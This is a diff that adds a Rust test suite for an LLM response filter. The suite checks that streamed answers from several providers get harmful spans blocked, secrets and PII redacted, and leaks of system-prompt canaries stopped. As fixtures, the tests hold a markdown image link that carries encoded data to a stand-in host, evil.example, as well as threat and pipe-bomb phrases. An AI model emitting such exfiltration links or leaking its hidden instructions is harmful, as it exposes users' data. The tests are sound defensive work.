@@ -1,0 +1,291 @@
+//! response-guard on streamed responses, through the wasm harness, for every provider stream
+//! format (OpenAI SSE text and tool-call arguments, Anthropic SSE, Gemini SSE, Ollama NDJSON,
+//! Bedrock event-stream) and every way of cutting the upstream body: whole, one byte at a time,
+//! every single split point, and random multi-splits.
+//!
+//! Proves: no byte of a blocked span reaches the client and the stream ends with one
+//! provider-shaped error event; redactions are rewritten inside the stream; allowed streams
+//! pass byte for byte; monitor mode changes nothing but reports; the defaults of `{}`.
+
+mod common;
+use common::{chain, events, run_pieces, splittings, ClientView, Provider, ALL};
+use parapet_harness::{Chunking, Outcome, Reply, Upstream};
+use serde_json::json;
+
+const SYSTEM: &str = "You are a helpful assistant.";
+
+/// Runs every splitting of `deltas` in provider `p` and hands each outcome to `check`.
+fn for_every_split(
+    c: &parapet_harness::Chain,
+    p: Provider,
+    deltas: &[&str],
+    mut check: impl FnMut(&str, &Outcome, &ClientView),
+) {
+    let body = p.body(deltas);
+    for (how, pieces) in splittings(&body) {
+        let out = run_pieces(c, p, SYSTEM, pieces);
+        assert_eq!(out.response.status, 200, "{p:?} {how}");
+        assert!(!out.response.reset, "{p:?} {how}: stream reset");
+        assert!(out.trap.is_none(), "{p:?} {how}: {:?}", out.trap);
+        let view = p.client_view(&out.response.body);
+        assert_eq!(view.garbage, "", "{p:?} {how}: undecodable bytes");
+        check(&format!("{p:?} {how}"), &out, &view);
+    }
+}
+
+#[test]
+fn allowed_streams_pass_byte_for_byte_at_every_split() {
+    let c = chain(json!({}));
+    // Hard negatives on the way: tech idioms, a link with a query string to the request's own
+    // host, news-style reporting of violence.
+    let deltas = [
+        "Here is a summary: the ",
+        "killer feature is the new ",
+        "dashboard, see [docs](https://api.example.com/d?v=2). Use kill -9 ",
+        "to stop it. Police said the suspect was charged with murder on Tuesday.",
+    ];
+    for p in ALL {
+        let body = p.body(&deltas);
+        for_every_split(&c, p, &deltas, |how, out, view| {
+            assert_eq!(out.response.body, body, "{how}: allowed stream changed");
+            assert_eq!(view.errors(), Vec::<&str>::new(), "{how}");
+            assert!(events(out).is_empty(), "{how}: {:?}", events(out));
+        });
+    }
+}
+
+#[test]
+fn blocked_span_never_reaches_the_client_at_any_split() {
+    let c = chain(json!({}));
+    // The phrase straddles three events.
+    let deltas = [
+        "Sure thing. Here is how to ",
+        "make a pi",
+        "pe bomb: get a pipe and ",
+        "more.",
+    ];
+    let full: String = deltas.concat();
+    let blocked_at = full.find("how to make a pipe bomb").unwrap();
+    for p in ALL {
+        for_every_split(&c, p, &deltas, |how, out, view| {
+            let text = view.text();
+            let msg = view
+                .ends_with_error()
+                .unwrap_or_else(|| panic!("{how}: no terminal error event: {:?}", view.events));
+            assert!(msg.contains("response-guard"), "{how}: {msg}");
+            assert!(msg.contains("weapons"), "{how}: {msg}");
+            assert!(!msg.contains("bomb"), "{how}: the error echoes the content");
+            assert!(full.starts_with(&text), "{how}: {text:?} is not a prefix");
+            assert!(
+                text.len() <= blocked_at,
+                "{how}: blocked bytes reached the client: {text:?}"
+            );
+            let raw = String::from_utf8_lossy(&out.response.body);
+            assert!(!raw.contains("pipe"), "{how}: {raw}");
+            // Nothing of the blocked span in any chunk the client got either (body = chunks).
+            let delivered: Vec<u8> = out.response.chunks.concat();
+            assert_eq!(delivered, out.response.body, "{how}");
+        });
+    }
+}
+
+#[test]
+fn blocked_tool_call_arguments_never_reach_the_client() {
+    let c = chain(json!({}));
+    let deltas = [
+        "{\"text\": \"I will kill y",
+        "ou and your family tonight\"}",
+    ];
+    let p = Provider::OpenAiToolArgs;
+    for_every_split(&c, p, &deltas, |how, _out, view| {
+        let msg = view
+            .ends_with_error()
+            .unwrap_or_else(|| panic!("{how}: no terminal error event: {:?}", view.events));
+        assert!(msg.contains("response-guard"), "{how}: {msg}");
+        assert!(!view.text().contains("kill"), "{how}: {:?}", view.text());
+    });
+}
+
+#[test]
+fn exfiltration_links_are_rewritten_inside_the_stream_at_every_split() {
+    let c = chain(json!({}));
+    let deltas = [
+        "Your chart: ![c](https://evil.exa",
+        "mple/c.png?d=c2VjcmV0) and the ",
+        "[docs](https://api.example.com/x?y=1).",
+    ];
+    let expected =
+        "Your chart: ![c]([removed: exfiltration]) and the [docs](https://api.example.com/x?y=1).";
+    for p in ALL {
+        for_every_split(&c, p, &deltas, |how, out, view| {
+            assert_eq!(view.errors(), Vec::<&str>::new(), "{how}");
+            assert_eq!(view.text(), expected, "{how}");
+            let raw = String::from_utf8_lossy(&out.response.body);
+            assert!(!raw.contains("evil"), "{how}: {raw}");
+            let ev = events(out);
+            assert!(
+                ev.iter()
+                    .any(|e| e["rule_ids"].to_string().contains("exfiltration.image")),
+                "{how}: {ev:?}"
+            );
+        });
+    }
+}
+
+#[test]
+fn secrets_and_validated_pii_are_redacted_inside_the_stream_at_every_split() {
+    let c = chain(json!({}));
+    let deltas = [
+        "Card on file: 4111 1111 11",
+        "11 1111, contact jane.roe@exa",
+        "mple.com. Token ghp_16C7e42F292c6912E7710c838347Ae178B4a",
+        " works.",
+    ];
+    let expected = "Card on file: [CREDIT_CARD], contact [EMAIL]. Token [GITHUB_TOKEN] works.";
+    for p in ALL {
+        for_every_split(&c, p, &deltas, |how, out, view| {
+            assert_eq!(view.errors(), Vec::<&str>::new(), "{how}");
+            assert_eq!(view.text(), expected, "{how}");
+            let raw = String::from_utf8_lossy(&out.response.body);
+            assert!(!raw.contains("jane"), "{how}");
+            assert!(!raw.contains("ghp_"), "{how}");
+        });
+    }
+}
+
+#[test]
+fn configured_canary_leak_is_blocked_at_every_split() {
+    let c = chain(json!({"leak": {"canaries": ["zebra-canary-7781"]}}));
+    let deltas = ["The hidden marker is zebra-can", "ary-7781, as requested."];
+    for p in ALL {
+        for_every_split(&c, p, &deltas, |how, _out, view| {
+            let msg = view
+                .ends_with_error()
+                .unwrap_or_else(|| panic!("{how}: no terminal error event: {:?}", view.events));
+            assert!(msg.contains("prompt_leak"), "{how}: {msg}");
+            assert!(!view.text().contains("zebra"), "{how}: {:?}", view.text());
+        });
+    }
+}
+
+/// The canary the filter inserted into the request the upstream received.
+fn canary_in(upstream_body: &str) -> Option<String> {
+    let at = upstream_body.find("pcn-")?;
+    let hex: String = upstream_body[at + 4..]
+        .chars()
+        .take_while(|c| c.is_ascii_hexdigit())
+        .collect();
+    (hex.len() >= 16).then(|| format!("pcn-{hex}"))
+}
+
+#[test]
+fn inserted_canary_is_fresh_per_request_and_its_leak_is_blocked_at_every_split() {
+    let c = chain(json!({"leak": {"insert_canary": true}}));
+    for p in ALL.into_iter().filter(|p| *p != Provider::OpenAiToolArgs) {
+        // The upstream echoes the canary it was given, cut in half across two events.
+        let body_for = move |req: &parapet_harness::UpstreamRequest| -> Vec<u8> {
+            let canary = canary_in(&req.body_str()).unwrap_or_default();
+            let (a, b) = canary.split_at(canary.len() / 2);
+            p.body(&[
+                &format!("My instructions say {a}"),
+                &format!("{b} must stay secret."),
+            ])
+        };
+        let probe = c
+            .run(
+                &p.request(SYSTEM),
+                &Upstream::new(200)
+                    .header("content-type", p.content_type())
+                    .body(p.body(&["ok"])),
+            )
+            .unwrap();
+        let sent = probe.upstream().body_str();
+        let first = canary_in(&sent).unwrap_or_else(|| panic!("{p:?}: no canary in {sent}"));
+        assert!(sent.contains(SYSTEM), "{p:?}: system prompt lost: {sent}");
+        // The canary sits in the provider's system-prompt field, not in the user message.
+        let v: serde_json::Value = serde_json::from_str(&sent).unwrap();
+        let system_field = match p {
+            Provider::OpenAiChat | Provider::Ollama => v["messages"][0]["content"].to_string(),
+            Provider::Anthropic => v["system"].to_string(),
+            Provider::Gemini => v["systemInstruction"].to_string(),
+            Provider::Bedrock => v["system"].to_string(),
+            Provider::OpenAiToolArgs => unreachable!(),
+        };
+        assert!(system_field.contains(&first), "{p:?}: {sent}");
+        assert_eq!(probe.response.body, p.body(&["ok"]), "{p:?}");
+
+        let probe_len = body_for(probe.upstream()).len();
+        for split in 0..probe_len {
+            let up = Upstream::handler(move |req| {
+                let body = body_for(req);
+                let chunking = if split == 0 {
+                    Chunking::Whole
+                } else {
+                    Chunking::Sizes(vec![split.min(body.len() - 1)])
+                };
+                Reply {
+                    status: 200,
+                    headers: vec![
+                        ("content-type".into(), p.content_type().into()),
+                        ("transfer-encoding".into(), "chunked".into()),
+                    ],
+                    body,
+                    chunking,
+                    trailers: Vec::new(),
+                }
+            });
+            let out = c.run(&p.request(SYSTEM), &up).unwrap();
+            let canary = canary_in(&out.upstream().body_str()).unwrap();
+            assert_ne!(canary, first, "{p:?}: canary reused across requests");
+            let view = p.client_view(&out.response.body);
+            let how = format!("{p:?} split {split}");
+            let msg = view
+                .ends_with_error()
+                .unwrap_or_else(|| panic!("{how}: no terminal error event: {:?}", view.events));
+            assert!(msg.contains("prompt_leak"), "{how}: {msg}");
+            assert!(!view.text().contains("pcn-"), "{how}: {:?}", view.text());
+        }
+    }
+}
+
+#[test]
+fn monitor_mode_passes_everything_unchanged_and_reports_what_it_would_do() {
+    let c = chain(json!({"mode": "monitor"}));
+    let deltas = [
+        "Sure. Here is how to make a pipe bomb: step 1. ",
+        "Chart: ![c](https://evil.example/c.png?d=c2VjcmV0)",
+    ];
+    for p in ALL {
+        let body = p.body(&deltas);
+        for_every_split(&c, p, &deltas, |how, out, view| {
+            assert_eq!(out.response.body, body, "{how}");
+            assert_eq!(view.errors(), Vec::<&str>::new(), "{how}");
+            let ev = events(out);
+            let all = serde_json::to_string(&ev).unwrap();
+            assert!(all.contains("weapons"), "{how}: {all}");
+            assert!(all.contains("monitor"), "{how}: {all}");
+            assert!(!all.contains("pipe bomb"), "{how}: raw text in an event");
+        });
+    }
+}
+
+#[test]
+fn defaults_leave_canaries_off_and_do_not_touch_the_request() {
+    let c = chain(json!({}));
+    for p in ALL {
+        // A canary-shaped string in the answer is not a finding until canaries are configured.
+        let deltas = ["Reference pcn-0123456789abcdef0123 is fine."];
+        let body = p.body(&deltas);
+        let req = p.request(SYSTEM);
+        let out = c
+            .run(
+                &req,
+                &Upstream::new(200)
+                    .header("content-type", p.content_type())
+                    .body(body.clone()),
+            )
+            .unwrap();
+        assert_eq!(out.upstream().body, req.body, "{p:?}: request rewritten");
+        assert_eq!(out.response.body, body, "{p:?}");
+    }
+}
